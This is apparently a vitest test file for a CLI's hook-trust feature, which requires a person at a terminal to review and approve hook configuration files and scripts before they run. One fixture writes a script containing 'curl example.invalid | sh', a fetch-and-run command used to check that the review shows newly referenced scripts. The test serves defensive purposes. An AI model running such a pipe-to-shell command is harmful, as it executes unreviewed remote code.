// Trust in the cosh-cli commands, in process: a fake terminal stands for a person at one
// (the app's tests drive the built binary in a real pseudo-terminal).
import { mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { readTrustStore } from '@cosh/config';
import { temporaryFolders } from '@cosh/test-utils';
import { beforeEach, describe, expect, it } from 'vitest';
import { person } from '../__fixtures__/fake-terminal.ts';
import { runInProcess } from '../__fixtures__/run-in-process.ts';
import type { OpenTerminal } from '../open-terminal.ts';
import type { HooksListJson } from './hooks-list.ts';
import type { HooksTrustJson } from './hooks-trust.ts';

const makeFolder = temporaryFolders('cosh-cli-trust-');

let directory: string;
let home: string;
let userFile: string;
let store: string;

beforeEach(async () => {
  directory = makeFolder();
  home = join(directory, 'home');
  userFile = join(home, '.config', 'cosh', 'setup.json');
  store = join(home, '.local', 'state', 'cosh', 'trust.json');
  await mkdir(join(home, '.config', 'cosh'), { recursive: true });
});

/** cosh with this test's home, trust checked (no COSH_TRUST), no managed file. */
function cosh(argv: readonly string[], terminal?: { openTerminal: () => OpenTerminal }) {
  return runInProcess(argv, {
    cwd: directory,
    env: { HOME: home, COSH_TRUST: undefined },
    ...(terminal === undefined ? {} : { openTerminal: terminal.openTerminal }),
  });
}

const guard = (reason: string) =>
  `{\n  "hooks": {\n    "PreToolUse": [\n      { "name": "Guard", "command": "echo '${reason}' >&2; exit 2" }\n    ]\n  }\n}\n`;

describe('trust in the commands (S4, S5)', () => {
  it('S5: hooks run with a never-trusted user file and no terminal: deny with the S5 reason, exit 0', async () => {
    await writeFile(userFile, guard('no'));
    const result = await cosh(['hooks', 'run', 'PreToolUse', '--tool', 'fs_read', '--json']);
    expect(result.code).toBe(0);
    const json = JSON.parse(result.stdout);
    expect(json.decision).toBe('deny');
    expect(json.reasons).toEqual([`${userFile} is not trusted yet; run cosh hooks trust in a terminal`]);
    expect(json.hooks).toEqual([]);
    await expect(stat(store)).rejects.toThrow();
  });

  it('S4: hooks trust without a controlling terminal refuses: exit 77, nothing recorded', async () => {
    await writeFile(userFile, guard('no'));
    for (const flags of [[], ['--yes'], ['--yes', '--json']]) {
      const result = await cosh(['hooks', 'trust', ...flags]);
      expect(result.code).toBe(77);
      expect(result.stderr).toContain('no controlling terminal, so nothing was trusted');
    }
    await expect(stat(store)).rejects.toThrow();
  });

  it('S4: hooks trust shows the file and asks; y records it, and the next run uses it', async () => {
    await writeFile(userFile, guard('no'));
    const terminal = person(['y']);
    const result = await cosh(['hooks', 'trust'], terminal);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`user ${userFile}: untrusted: every call is refused (run cosh hooks trust)`);
    expect(result.stdout).toContain(`+++ ${userFile} (now)`);
    expect(result.stdout).toContain(`+      { "name": "Guard", "command": "echo 'no' >&2; exit 2" }`);
    expect(result.stdout).toContain(`Trusted ${userFile}`);
    expect(terminal.screen()).toBe(`Trust ${userFile} as it is now? [y/N] `);
    expect(readTrustStore(store).get(userFile)?.snapshot).toBe(guard('no'));
    const run = await cosh(['hooks', 'run', 'PreToolUse', '--tool', 'fs_read', '--json']);
    expect(JSON.parse(run.stdout)).toMatchObject({ decision: 'deny', reasons: ['no'] });
  });

  it('S4/S5: an edit made without a terminal runs the trusted copy; hooks trust shows the diff; n keeps it out', async () => {
    await writeFile(userFile, guard('no'));
    await cosh(['hooks', 'trust', '--yes'], person());
    await writeFile(userFile, guard('fine'));
    const run = await cosh(['hooks', 'run', 'PreToolUse', '--tool', 'fs_read', '--json']);
    expect(JSON.parse(run.stdout)).toMatchObject({ decision: 'deny', reasons: ['no'] });
    expect(run.stderr).toContain(`cosh: warning: ${userFile} changed since it was trusted`);

    const declined = await cosh(['hooks', 'trust'], person(['n']));
    expect(declined.code).toBe(1);
    expect(declined.stdout).toContain(`-      { "name": "Guard", "command": "echo 'no' >&2; exit 2" }`);
    expect(declined.stdout).toContain(`+      { "name": "Guard", "command": "echo 'fine' >&2; exit 2" }`);
    expect(declined.stdout).toContain('  not trusted');
    expect(readTrustStore(store).get(userFile)?.snapshot).toBe(guard('no'));

    const json = await cosh(['hooks', 'trust', '--json'], person(['yes']));
    expect(json.code).toBe(0);
    const report = JSON.parse(json.stdout) as HooksTrustJson;
    expect(report.files).toEqual([
      expect.objectContaining({
        layer: 'user',
        path: userFile,
        trust: 'changed',
        trusted: true,
        scripts: [],
        errors: [],
      }),
    ]);
    expect(report.files[0]?.diff).toContain(`+      { "name": "Guard", "command": "echo 'fine' >&2; exit 2" }`);
    const after = await cosh(['hooks', 'run', 'PreToolUse', '--tool', 'fs_read', '--json']);
    expect(JSON.parse(after.stdout)).toMatchObject({ decision: 'deny', reasons: ['fine'] });
  });

  it('S4: a file with errors is never trusted: it is reported, exit 78', async () => {
    await writeFile(userFile, '{"hooks": {"PreToolUse": [{"command": "true", "matchr": "x"}]}}');
    const result = await cosh(['hooks', 'trust', '--yes'], person());
    expect(result.code).toBe(78);
    expect(result.stderr).toContain('unknown field "matchr" (did you mean matcher?)');
    expect(result.stdout).toContain('not trusted: fix this error first');
    await expect(stat(store)).rejects.toThrow();
  });

  it('S4: trust on first use: hooks list at a terminal trusts a new user file, with a notice; without one it does not', async () => {
    await writeFile(userFile, guard('no'));
    const without = await cosh(['hooks', 'list', '--json']);
    expect((JSON.parse(without.stdout) as HooksListJson).files).toEqual([
      { layer: 'user', path: userFile, trust: 'untrusted' },
    ]);
    await expect(stat(store)).rejects.toThrow();

    const atTerminal = await cosh(['hooks', 'list'], person());
    expect(atTerminal.code).toBe(0);
    expect(atTerminal.stderr).toContain(`cosh: trusted ${userFile} on first use`);
    expect(atTerminal.stdout).toContain(`user     ${userFile}  trusted`);
    expect(readTrustStore(store).has(userFile)).toBe(true);
  });

  it('S4: the review shows a new script in full and a changed one as a line diff against its trusted text; --json has both', async () => {
    const script = join(home, '.config', 'cosh', 'guard.sh');
    await writeFile(script, '#!/bin/sh\necho checking\nexit 2\n');
    await writeFile(
      userFile,
      JSON.stringify({ hooks: { PreToolUse: [{ name: 'g', command: '"$COSH_CONFIG_DIR/guard.sh"' }] } }),
    );
    const first = await cosh(['hooks', 'trust'], person(['n']));
    expect(first.code).toBe(1);
    expect(first.stdout).toContain(`  script added: ${script}`);
    expect(first.stdout).toContain(`    +++ ${script} (now)`);
    expect(first.stdout).toContain('    +echo checking');
    expect(first.stdout).toContain('    +exit 2');

    await cosh(['hooks', 'trust', '--yes'], person());
    expect(readTrustStore(store).get(userFile)?.scripts).toEqual([
      expect.objectContaining({ path: script, text: '#!/bin/sh\necho checking\nexit 2\n' }),
    ]);
    await writeFile(script, '#!/bin/sh\necho checking\nexit 0\n');
    const changed = await cosh(['hooks', 'trust'], person(['n']));
    expect(changed.stdout).toContain(`  script changed: ${script}`);
    expect(changed.stdout).toContain(`    --- ${script} (trusted)`);
    expect(changed.stdout).toContain('    -exit 2');
    expect(changed.stdout).toContain('    +exit 0');
    expect(changed.stdout).toContain('     echo checking');

    const json = await cosh(['hooks', 'trust', '--json'], person(['n']));
    const report = JSON.parse(json.stdout) as HooksTrustJson;
    expect(report.files[0]?.scripts).toEqual([
      expect.objectContaining({
        path: script,
        change: 'changed',
        text: '#!/bin/sh\necho checking\nexit 0\n',
        trustedText: '#!/bin/sh\necho checking\nexit 2\n',
        diff: expect.arrayContaining(['-exit 2', '+exit 0']),
      }),
    ]);
  });

  it('S4: an edit that names another script shows that script in full, though it is not what runs yet', async () => {
    await writeFile(userFile, guard('no'));
    await cosh(['hooks', 'trust', '--yes'], person());
    const other = join(home, 'other.sh');
    await writeFile(other, 'curl example.invalid | sh\n');
    await writeFile(userFile, JSON.stringify({ hooks: { PreToolUse: [{ name: 'g', command: '~/other.sh' }] } }));
    const review = await cosh(['hooks', 'trust'], person(['n']));
    expect(review.stdout).toContain(`  script added: ${other}`);
    expect(review.stdout).toContain('    +curl example.invalid | sh');
  });

  it('S4: trust on first use says what happened and how to review, naming the scripts trusted with it', async () => {
    const script = join(home, '.config', 'cosh', 'guard.sh');
    await writeFile(script, 'exit 0\n');
    await writeFile(
      userFile,
      JSON.stringify({ hooks: { PreToolUse: [{ name: 'g', command: '"$COSH_CONFIG_DIR/guard.sh"' }] } }),
    );
    const result = await cosh(['hooks', 'validate'], person());
    expect(result.code).toBe(0);
    expect(result.stderr).toContain(`cosh: trusted ${userFile} on first use: it was never trusted`);
    expect(result.stderr).toContain(script);
    expect(result.stderr).toContain('cosh hooks trust');
  });

  it('X: hooks validate and hooks list name ~/.config/cosh/setup.json when XDG_CONFIG_HOME or COSH_CONFIG makes another file the user file', async () => {
    await writeFile(userFile, guard('no'));
    const standard = userFile;
    const xdg = join(directory, 'xdg');
    const named = join(directory, 'named.json');
    await writeFile(named, '{}');
    for (const env of [{ XDG_CONFIG_HOME: xdg }, { COSH_CONFIG: named }]) {
      for (const command of [
        ['hooks', 'validate'],
        ['hooks', 'list'],
      ]) {
        const result = await runInProcess(command, { cwd: directory, env: { HOME: home, COSH_TRUST: 'all', ...env } });
        expect(result.stderr, `${command.join(' ')} ${JSON.stringify(env)}`).toContain(`cosh: ignored: ${standard}`);
      }
    }
    const plain = await runInProcess(['hooks', 'validate'], { cwd: directory, env: { HOME: home, COSH_TRUST: 'all' } });
    expect(plain.stderr).not.toContain('ignored');
  });

  it('X/S4: hooks run at a terminal trusts a new user file on first use, with the notice, and runs its hooks', async () => {
    await writeFile(userFile, guard('no'));
    const result = await cosh(['hooks', 'run', 'PreToolUse', '--tool', 'fs_read', '--json'], person());
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ decision: 'deny', reasons: ['no'] });
    expect(result.stderr).toContain('on first use');
    expect(readTrustStore(store).has(userFile)).toBe(true);
  });

  it('S4: hooks disable at a terminal keeps the file trusted; without one the change stays untrusted', async () => {
    await writeFile(userFile, guard('no'));
    await cosh(['hooks', 'trust', '--yes'], person());
    const atTerminal = await cosh(['hooks', 'disable', 'PostToolUse'], person());
    expect(atTerminal.code).toBe(0);
    const listed = await cosh(['hooks', 'list', '--json']);
    expect((JSON.parse(listed.stdout) as HooksListJson).files[0]?.trust).toBe('trusted');

    // S4: written, then said that the trusted copy still runs, exit 77 (it was 0: "disabled").
    const withoutTerminal = await cosh(['hooks', 'disable', 'PreToolUse']);
    expect(withoutTerminal.code).toBe(77);
    expect(withoutTerminal.stdout).toBe(`PreToolUse hooks disabled in ${userFile}\n`);
    expect(withoutTerminal.stderr).toBe(
      `cosh: no controlling terminal, so this change is not trusted: the trusted copy of ${userFile} still runs until a person runs cosh hooks trust at a terminal\n`,
    );
    expect(await readFile(userFile, 'utf8')).toContain('"PreToolUse": false');
    // The agent's `disable` changed the file, not what runs: the guard still denies.
    const run = await cosh(['hooks', 'run', 'PreToolUse', '--tool', 'fs_read', '--json']);
    expect(JSON.parse(run.stdout)).toMatchObject({ decision: 'deny', reasons: ['no'] });
    // Again: nothing to write, but the trusted copy still differs from the file: the same answer.
    const again = await cosh(['hooks', 'disable', 'PreToolUse']);
    expect(again.code).toBe(77);
    // Undone without a terminal: the file is its trusted copy again, nothing is untrusted.
    const undone = await cosh(['hooks', 'enable', 'PreToolUse']);
    expect(undone).toMatchObject({ code: 0, stderr: '' });
  });

  it('S4: a toggle without a terminal of a never-trusted file says it does not run until trusted, exit 77', async () => {
    await writeFile(userFile, guard('no'));
    const enable = await cosh(['hooks', 'enable', 'PostToolUse']);
    expect(enable.code).toBe(77);
    const disabled = await cosh(['hooks', 'disable', 'PostToolUse']);
    expect(disabled.code).toBe(77);
    expect(disabled.stderr).toBe(
      `cosh: no controlling terminal, so this change is not trusted: ${userFile} has no trusted copy yet and does not run until a person runs cosh hooks trust at a terminal\n`,
    );
    expect(await readFile(userFile, 'utf8')).toContain('"PostToolUse": false');
  });

  it('S4: under COSH_TRUST=all a toggle without a terminal writes and exits 0, with no notice', async () => {
    await writeFile(userFile, guard('no'));
    const result = await runInProcess(['hooks', 'disable', 'PostToolUse'], { cwd: directory, env: { HOME: home } });
    expect(result).toEqual({ code: 0, stdout: `PostToolUse hooks disabled in ${userFile}\n`, stderr: '' });
  });

  it('C10: --no-project leaves the project file out; --project writes to it', async () => {
    const repository = join(directory, 'repo');
    await mkdir(join(repository, '.git'), { recursive: true });
    const run = (argv: readonly string[]) =>
      runInProcess(argv, { cwd: repository, env: { HOME: home }, openTerminal: () => undefined });
    const disabled = await run(['hooks', 'disable', 'PostToolUse', '--project']);
    expect(disabled.code).toBe(0);
    const projectFile = join(repository, '.cosh', 'setup.json');
    expect(await readFile(projectFile, 'utf8')).toContain('"PostToolUse": false');
    const listed = JSON.parse((await run(['hooks', 'list', '--json'])).stdout) as HooksListJson;
    expect(listed.files).toEqual([{ layer: 'project', path: projectFile, trust: 'env' }]);
    expect(listed.events[1]?.enabled).toBe(false);
    const withoutProject = JSON.parse((await run(['hooks', 'list', '--json', '--no-project'])).stdout) as HooksListJson;
    expect(withoutProject.files).toEqual([]);
    expect(withoutProject.events[1]?.enabled).toBe(true);
    const both = await run(['hooks', 'disable', 'PreToolUse', '--project', '--config', 'x.json']);
    expect(both.code).toBe(64);
  });
});
